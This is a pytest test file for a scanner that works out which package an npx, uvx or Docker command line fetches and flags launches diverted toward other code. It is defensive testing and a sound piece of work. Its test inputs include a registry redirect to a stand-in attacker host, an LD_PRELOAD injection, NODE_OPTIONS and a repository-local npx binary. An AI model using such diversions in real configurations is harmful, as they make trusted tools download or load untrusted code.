"""Which package a command line fetches, and whether it surely is that one."""

from __future__ import annotations

import pytest

from yett.scan.diverting import diverted
from yett.scan.model import Package
from yett.scan.packages import package_of


@pytest.mark.parametrize(
    ("line", "package"),
    [
        ("npx -y some-mcp@1.2.3 /dir", Package("npm", "some-mcp", "1.2.3")),
        ("npx -y @scope/some-mcp", Package("npm", "@scope/some-mcp")),
        ("pnpm dlx @scope/some-mcp@latest", Package("npm", "@scope/some-mcp", "latest")),
        ("npx --package=some-mcp other-name", Package("npm", "some-mcp")),
        ("uvx some-mcp==1.0", Package("pypi", "some-mcp", "1.0")),
        ("uvx --python 3.12 some-mcp[extra]@2.0", Package("pypi", "some-mcp", "2.0")),
        ("uvx --from some-mcp serve", Package("pypi", "some-mcp")),
        ("uv tool run some-mcp", Package("pypi", "some-mcp")),
        ("docker run -i --rm -e A=b -v /x:/y ghcr.io/some/mcp:1.2", Package("image", "ghcr.io/some/mcp", "1.2")),
        ("docker run -i some/mcp", Package("image", "some/mcp")),
        ("node server.js", None),
        ("npx", None),
        ("npx ./local", None),
        ("npx -y ghp_16C7e42F292c6912E7710c838347Ae178B4a", None),
    ],
)
def test_the_package_is_read_from_the_command_line(line: str, package: Package | None) -> None:
    assert package_of(line.split())[0] == package


def test_options_variables_and_files_of_the_repository_divert() -> None:
    assert diverted(["npx", "-y", "a"], (), "a") is None
    assert diverted(["/usr/bin/npx", "-y", "a", "--registry", "x"], ("API_KEY",), "a") is None
    assert "options" in (diverted(["npx", "--registry=https://evil.example", "a"], (), "a") or "")
    assert "variables" in (diverted(["npx", "a"], ("NODE_OPTIONS",), "a") or "")
    assert "variables" in (diverted(["env", "LD_PRELOAD=x.so", "npx", "a"], (), "a") or "")
    for program in ("./npx", "bin/npx", "${workspaceFolder}/npx", "..\\npx"):
        assert "a file of the repository" in (diverted([program, "a"], (), "a") or "")
